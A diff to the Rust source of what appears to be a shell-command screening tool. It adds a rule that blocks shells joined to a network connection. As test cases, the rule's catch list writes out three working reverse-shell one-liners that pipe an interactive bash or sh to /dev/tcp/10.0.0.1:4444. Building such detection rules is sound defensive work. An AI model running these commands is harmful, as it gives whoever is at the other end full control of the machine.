@@ -1,7 +1,10 @@
 //! What holds for every command, whatever its name.
 
 use super::{Rule, Severity, Subject, Tool};
-use crate::{place::Place, unwrap::value::SOME};
+use crate::{
+    place::Place,
+    unwrap::{SHELLS, value::SOME},
+};
 
 /// The rules that look at each command.
 pub(crate) const GENERAL: Tool = Tool {
@@ -20,6 +23,9 @@ pub(crate) const GENERAL: Tool = Tool {
                 .script
                 .as_ref()
                 .is_some_and(|script| script.source.decoded && !script.is_known())
+        }),
+        ("joined-shell", |s| {
+            SHELLS.contains(&s.call.name.as_str()) && super::network::is_joined(s.call)
         }),
         ("fork-bomb", |s| s.call.name == "fork-bomb"),
         ("decoded-code", |s| s.call.name == "decoded-code"),
@@ -104,6 +110,23 @@ pub(crate) const GENERAL: Tool = Tool {
                 "base64 -d x.b64 > x",
                 "echo aGk= | base64 -d",
                 "gunzip -c x.gz | head",
+            ],
+        },
+        Rule {
+            id: "shell.remote-control",
+            when: &["&joined-shell"],
+            severity: Severity::Block,
+            reason: "whoever is at the other end could run anything here",
+            alternative: Some("nc -z localhost 8080"),
+            catches: &[
+                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                "sh -i > /dev/tcp/10.0.0.1/4444 2>&1",
+                "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
+            ],
+            spares: &[
+                "timeout 1 bash -c '</dev/tcp/localhost/5432'",
+                "(echo > /dev/tcp/localhost/5432) 2>/dev/null",
+                "bash -i",
             ],
         },
         Rule {
